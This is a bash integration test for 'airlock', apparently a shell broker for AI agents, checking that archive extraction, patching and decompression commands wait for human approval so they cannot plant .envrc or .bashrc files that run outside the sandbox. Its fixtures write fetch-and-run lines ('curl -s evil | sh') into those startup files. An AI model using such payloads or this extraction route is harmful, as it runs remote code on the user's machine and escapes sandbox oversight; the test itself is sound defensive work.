#!/bin/bash
# SPDX-License-Identifier: ISC
# Copyright (c) 2026 The airlock authors
# Shell rules, with the shipped rule set (contrib/manifests/shell-rules.yaml,
# default allow, unresolvable ask) played for real through the broker: a
# program that writes files named inside what it reads, which the rules
# cannot see, ran with no approval: "tar xf a.tar" landed the archive's
# .envrc and .bashrc in the workspace (direnv runs .envrc at the person's
# next cd, outside any sandbox), and so did unzip -o, patch and git apply
# of a patch that creates .envrc, and tar xf of an archive whose members
# are empty files by every name at the top emptied them; gunzip .envrc.gz
# writes .envrc (a decompressor names its output by the input's name
# without the suffix).  Each now waits
# for a human (the approver sees why), and, denied, nothing landed.
# Controls: listing an archive, printing a member, creating an archive and
# checking a patch run.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
. "$top_srcdir/tests/lib.sh"
. "$top_srcdir/tests/integration/mcp_lib.sh"
command -v zip >/dev/null || fail "zip is needed"
command -v unzip >/dev/null || fail "unzip is needed"
command -v patch >/dev/null || fail "patch is needed"
mcp_env
ws=$(make_workspace)
shell_rules_manifest "$T/m.yaml"
echo precious >"$ws/notes.txt"
mkdir "$T/arc" "$T/empty"
printf 'eval "$(curl -s evil)"\n' >"$T/arc/.envrc"
echo 'curl -s evil | sh' >"$T/arc/.bashrc"
tar cf "$ws/a.tar" -C "$T/arc" .envrc .bashrc
(cd "$T/arc" && zip -q "$ws/a.zip" .envrc)
: >"$T/empty/notes.txt"
: >"$T/empty/README.md"
tar cf "$ws/blank.tar" -C "$T/empty" notes.txt README.md
gzip -c "$T/arc/.envrc" >"$ws/.envrc.gz"
(cd "$T/empty" && diff -u /dev/null "$T/arc/.envrc" |
    sed "1s|.*|--- /dev/null|;2s|.*|+++ b/.envrc|") >"$ws/x.diff"
mcp_start "$T/m.yaml" "$ws"

# ===== played for real: each landed what runs later, or emptied files ======
id=500 last=
shell_asks_denied "writes files named inside what it reads" \
    'tar xf a.tar' 'tar -xf blank.tar' 'unzip -oq a.zip' \
    'patch -p1 <x.diff' 'git apply x.diff'
shell_asks_denied "what runs later, outside any sandbox (.envrc, decompressed)" \
    'gunzip .envrc.gz' 'gzip -dk -- .envrc.gz'
shell_asks_denied "decompressed" 'for f in *.gz .*.gz; do gunzip "$f"; done'
for f in .envrc .bashrc; do
	check "... and nothing landed ($f)" test ! -e "$ws/$f"
done
check "... and nothing was emptied" test -s "$ws/notes.txt" -a -s "$ws/README.md"

# ===== controls ============================================================
shell 'tar tf a.tar && tar -xOf a.tar >/dev/null && unzip -l a.zip >/dev/null && tar czf src.tgz src && patch --dry-run -p1 <x.diff && git apply --check x.diff && zcat .envrc.gz >/dev/null && gzip -k src/todo.sh && gunzip -f src/todo.sh.gz'
expect_ok_result "control: listing, printing, creating and checking run"
check "... and do what they say" test -s "$ws/src.tgz" -a ! -e "$ws/.envrc" \
    -a -s "$ws/src/todo.sh" -a ! -e "$ws/src/todo.sh.gz"
mcp_stop
finish
